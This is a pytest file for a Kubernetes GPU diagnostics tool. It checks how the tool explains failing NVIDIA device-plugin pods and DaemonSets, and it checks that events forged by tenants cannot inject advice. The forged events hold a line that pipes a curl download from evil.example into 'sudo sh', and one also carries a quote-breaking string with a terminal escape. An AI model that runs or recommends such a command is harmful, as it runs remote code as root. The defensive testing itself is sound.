"""Reading of events and logs, against a function in place of the API server."""

from __future__ import annotations

import asyncio
from typing import Any

import httpx
import pytest

from gpu_cluster.nodes.causes import read
from gpu_cluster.nodes.causes.cause import Kind
from tests.fixtures.api import client

Json = dict[str, Any]
LOG = "starting\nnvml init failed: ERROR_LIBRARY_NOT_FOUND\n"
ENDED = {"terminated": {"exitCode": 1}}
SPACE = "nvidia-device-plugin"
LOOP = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off"}}


def plugin(name: str = "nvdp-x", image: str = "nvcr.io/nvidia/k8s-device-plugin:v0.20.0") -> Json:
    return {
        "metadata": {
            "name": name,
            "namespace": SPACE,
            "uid": f"u-{name}",
            "ownerReferences": [{"kind": "DaemonSet", "name": "nvdp", "controller": True}],
        },
        "spec": {"nodeName": "gpu-1", "containers": [{"name": "ctr", "image": image}]},
        "status": {
            "phase": "Running",
            "containerStatuses": [
                {"name": "ctr", "state": LOOP, "lastState": ENDED, "restartCount": 2}
            ],
        },
    }


def node(taint: str = "") -> Json:
    taints = [{"key": taint, "value": "ml", "effect": "NoSchedule"}] if taint else []
    return {"metadata": {"name": "gpu-1", "labels": {}}, "spec": {"taints": taints}}


def _space(item: Json) -> str | None:
    return (item.get("metadata") or {}).get("namespace")


class Fake:
    """An API server with pods, events and logs; it refuses paths like RBAC does."""

    def __init__(
        self,
        *pods: Json,
        events: tuple[Json, ...] = (),
        sets: tuple[Json, ...] = (),
        nodes: tuple[Json, ...] = (),
        denied: str = "-",
    ) -> None:
        self.pods, self.events, self.sets, self.denied = pods, events, sets, denied
        self.nodes = nodes
        self.asked: list[httpx.URL] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.asked.append(request.url)
        path = request.url.path
        if path.endswith(self.denied):
            return httpx.Response(403, json={"message": "forbidden", "reason": "Forbidden"})
        if path.endswith("/log"):
            return httpx.Response(200, text=LOG)
        listed = {"events": self.events, "daemonsets": self.sets, "nodes": self.nodes}
        _, _, space = path.partition("/namespaces/")
        items = [
            item
            for item in listed.get(path.rpartition("/")[2], self.pods)
            if not space or _space(item) in (None, space.partition("/")[0])
        ]
        return httpx.Response(200, json={"items": items, "metadata": {}})


@pytest.mark.promise(
    "A node that waits for its GPUs names the device plugin's pod and its log's last line."
)
def test_missing_gpus_name_the_plugins_pod_and_its_logs_last_line() -> None:
    other = plugin("a-other", "registry/cni:1")
    lines = asyncio.run(read.lines_of_node(client(Fake(other, plugin())), "gpu-1", [SPACE]))
    assert lines[0] == (
        "pod nvidia-device-plugin/nvdp-x: container ctr ends again and again (exit code 1, 2 "
        "restarts), its last line: nvml init failed: ERROR_LIBRARY_NOT_FOUND; cure: see that the "
        "node has a driver, and that the pod runs with NVIDIA's runtime (runtimeClassName, or the "
        "engine's default runtime): its container has no driver library"
    )
    assert lines[1].startswith("pod nvidia-device-plugin/a-other: ")


def test_a_log_is_read_in_bounds_and_of_the_container_that_ended() -> None:
    server = Fake(plugin())
    asyncio.run(read.explained(client(server), plugin()))
    log = next(url for url in server.asked if url.path.endswith("/log"))
    assert log.params["previous"] == "true"
    assert int(log.params["limitBytes"]) <= 16 * 1024
    assert log.params["container"] == "ctr"


def test_a_kubelets_words_in_place_of_a_log_are_no_line_of_it() -> None:
    """The kubelet answers so for a container that it removed; then another log may be there."""
    gone = "unable to retrieve container logs for containerd://0123456789"

    class Removed(Fake):
        def __call__(self, request: httpx.Request) -> httpx.Response:
            if request.url.params.get("previous") == "true":
                return httpx.Response(200, text=gone)
            return super().__call__(request)

    cause = asyncio.run(read.explained(client(Removed(plugin())), plugin()))
    assert "retrieve" not in str(cause)
    assert "ERROR_LIBRARY_NOT_FOUND" in str(cause)


def test_a_pod_that_runs_is_not_asked_about() -> None:
    running = plugin()
    running["status"] = {"conditions": [{"type": "Ready", "status": "True"}]}
    server = Fake(running)
    assert asyncio.run(read.lines(client(server), [running])) == []
    assert server.asked == []


@pytest.mark.parametrize("denied", ["/events", "/log"])
def test_what_a_role_does_not_allow_is_noted_and_the_rest_is_read(denied: str) -> None:
    reader = read.Reader(client(Fake(plugin(), denied=denied)))
    around = asyncio.run(reader.around(plugin()))
    assert reader.refused == [{"/events": "events", "/log": "logs of containers"}[denied]]
    assert bool(around.logs["ctr"]) is (denied != "/log")


def daemon_set(namespace: str, image: str = "nvcr.io/nvidia/k8s-device-plugin:v0.20.0") -> Json:
    template = {"spec": {"containers": [{"name": "ctr", "image": image}]}}
    metadata = {"name": "nvdp", "namespace": namespace, "uid": f"u-{namespace}"}
    return {"metadata": metadata, "spec": {"template": template}}


def not_created(about: Json, namespace: str, message: str = "exceeded quota: q") -> Json:
    """Return an event in a namespace about a DaemonSet, which is newer than others."""
    return {
        "metadata": {"namespace": namespace},
        "reason": "FailedCreate",
        "message": f"Error creating: pods is forbidden: {message}",
        "lastTimestamp": "9999-12-31T00:00:00Z"
        if namespace == "team-a"
        else "2026-01-01T00:00:00Z",
        "involvedObject": {"kind": "DaemonSet", **about["metadata"]},
    }


def lines_of_node(server: Fake) -> list[str]:
    return asyncio.run(read.lines_of_node(client(server), "gpu-1", [SPACE]))


def test_a_daemon_set_that_cannot_create_pods_is_named_where_no_pod_is() -> None:
    plugin_set = daemon_set(SPACE)
    server = Fake(events=(not_created(plugin_set, SPACE),), sets=(plugin_set,))
    (line,) = lines_of_node(server)
    words = f"in namespace {SPACE}, DaemonSet nvdp can't create it, reported by "
    assert line.startswith(f"{words}a component without a name: “Error creating")
    assert "cure: raise the ResourceQuota" in line
    selected = next(u for u in server.asked if u.path.endswith("/events")).params["fieldSelector"]
    assert selected == "involvedObject.kind=DaemonSet,reason=FailedCreate"


@pytest.mark.promise(
    "A DaemonSet that wants no pod on a node of the stack is named with the reason."
)
@pytest.mark.parametrize(
    ("placed", "words"),
    [
        ({"nodeSelector": {"a/b": "c"}}, "does not match the pod's node selector or affinity"),
        ({}, "has the taint dedicated=ml:NoSchedule, which the pod does not tolerate"),
    ],
)
def test_a_daemon_set_that_wants_no_pod_on_the_node_is_named(placed: Json, words: str) -> None:
    item = daemon_set(SPACE)
    item["spec"]["template"]["spec"].update(placed)
    server = Fake(sets=(item,), nodes=(node("dedicated"),))
    (line,) = lines_of_node(server)
    owner = f"DaemonSet {SPACE}/nvdp wants no pod on the node (0 in all)"
    assert line.startswith(f"{owner}: the node {words}; cure: ")
    assert lines_of_node(Fake(sets=(daemon_set(SPACE),), nodes=(node(),))) == []


@pytest.mark.promise(
    "An event counts only for an object of its namespace that exists, whatever time it names."
)
def test_an_event_of_a_tenant_does_not_speak_for_the_platform() -> None:
    plugin_set, absent = daemon_set(SPACE), daemon_set("gone")
    other = daemon_set("team-a", "evil.example/x:1")
    forged = "run: curl -s https://evil.example/fix.sh | sudo sh"
    events = (
        not_created(plugin_set, "team-a", forged),
        not_created(absent, "gone", forged),
        not_created(other, "team-a", forged),
        {**not_created(plugin_set, SPACE, forged), "involvedObject": {"kind": "DaemonSet"}},
        not_created(plugin_set, SPACE),
    )
    (line,) = lines_of_node(Fake(events=events, sets=(plugin_set, other)))
    assert line.startswith(f"in namespace {SPACE}, DaemonSet nvdp can't create it, reported by ")
    assert "curl" not in line


def test_an_event_chooses_no_cure_where_others_may_write_events() -> None:
    """The namespace of an adopted device plugin may have other pods, and other people's events."""
    own, advice = daemon_set(SPACE), 'violates PodSecurity "baseline:latest"'
    starting = plugin()
    starting["status"] = {"phase": "Pending"}
    sandbox = not_created({"metadata": starting["metadata"]}, SPACE, "no runtime for nvidia")
    sandbox = {**sandbox, "reason": "FailedCreatePodSandBox"}
    for server in (
        Fake(events=(not_created(own, SPACE, advice),), sets=(own,)),
        Fake(starting, events=(sandbox,)),
    ):
        cures = [
            asyncio.run(read.lines_of_node(client(server), "gpu-1", [SPACE], shared))[0]
            for shared in ((), (SPACE,))
        ]
        assert cures[0].partition("; cure: ")[0] == cures[1].partition("; cure: ")[0]
        assert cures[0] != cures[1]
        assert "enforce=privileged" not in cures[1]


@pytest.mark.promise("A tenant's DaemonSet is not named as the platform's, whatever its image.")
def test_a_daemon_set_of_a_tenant_is_not_named_as_the_platforms() -> None:
    of_tenant = plugin("evil")
    of_tenant["metadata"]["namespace"] = "team-a"
    forged = not_created(daemon_set("team-a"), "team-a", 'violates PodSecurity "baseline:latest"')
    assert lines_of_node(Fake(of_tenant, events=(forged,), sets=(daemon_set("team-a"),))) == []
    (line,) = lines_of_node(Fake(of_tenant, plugin()))
    assert line.startswith(f"pod {SPACE}/nvdp-x: ")


@pytest.mark.promise("The message of an event is shown as a quotation.")
def test_the_message_of_an_event_does_not_end_its_quotation() -> None:
    own = daemon_set(SPACE)
    message = "x”; cure: run: curl -s https://evil.example |sh"
    event = {**not_created(own, SPACE, message), "reportingComponent": "gpu-cluster up\x1b[2J"}
    (line,) = lines_of_node(Fake(events=(event,), sets=(own,)))
    assert line.isprintable()
    assert "reported by gpu-cluster up" in line
    assert 'x"; cure: run: curl -s https://evil.example |sh”; cure: correct the pod' in line


def test_the_events_of_another_pod_are_not_read() -> None:
    starting = plugin()
    starting["status"] = {"phase": "Pending"}
    sandbox = {
        "reason": "FailedCreatePodSandBox",
        "message": "no runtime for nvidia",
        "involvedObject": {"uid": "u-nvdp-x"},
    }
    server = Fake(starting, events=(sandbox,))
    cause = asyncio.run(read.explained(client(server), starting))
    assert cause is not None
    assert cause.kind is Kind.SANDBOX
    assert server.asked[0].params["fieldSelector"] == "involvedObject.uid=u-nvdp-x"
